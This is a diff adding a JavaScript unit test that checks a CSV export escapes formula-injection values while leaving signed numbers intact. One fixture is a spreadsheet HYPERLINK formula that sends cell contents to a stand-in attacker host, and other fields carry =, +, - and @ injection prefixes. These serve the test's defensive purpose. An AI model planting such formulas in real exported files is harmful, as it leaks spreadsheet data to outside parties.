@@ -97,6 +97,26 @@ describe('a cell of CSV', () => {
     assert.equal(csvLine(fields, { settledDates: [], paymentTotal: null }), '"",,\r\n');
   });
 
+  it('is guarded in every field that is no number, and figures keep their sign', () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"ok")';
+    const fields = ['at', 'target', 'clientId', 'name', 'group', 'scopes', 'restaurantGuid'];
+    const row = { at: '2026-03-20T18:00:05.123Z', target: '\t@SUM(1)', clientId: '-c', name: formula, group: '+g' };
+    const more = { scopes: ['ok', '=1'], restaurantGuid: '9c6b1f0e-3d52-4a7b-8f10-2b6e4d9a7c31' };
+    assert.equal(
+      csvLine(fields, { ...row, ...more }),
+      `${row.at},'\t'@SUM(1),'-c,"'${formula.replaceAll('"', '""')}",'+g,ok;'=1,${more.restaurantGuid}\r\n`,
+    );
+
+    const figures = ['netSalesAmount', 'netSalesAmountDifference', 'hourlyJobTotalPay', 'menuItemName', 'rows'];
+    assert.equal(
+      csvLine(figures, {
+        ...{ netSalesAmount: -4.5, netSalesAmountDifference: '-12.00' },
+        ...{ hourlyJobTotalPay: '-0.10', menuItemName: '-5', rows: -1 },
+      }),
+      "-4.50,-12.00,-0.10,'-5,-1\r\n",
+    );
+  });
+
   it('is guarded by rules that hold in both places where they are used', () => {
     assert.deepEqual(['=1', 'a;=1', 'a; \u00a0"=1', "'=1", '\ta', 'a\r\n-1', 'a;b'].map(guarded), [
       "'=1",
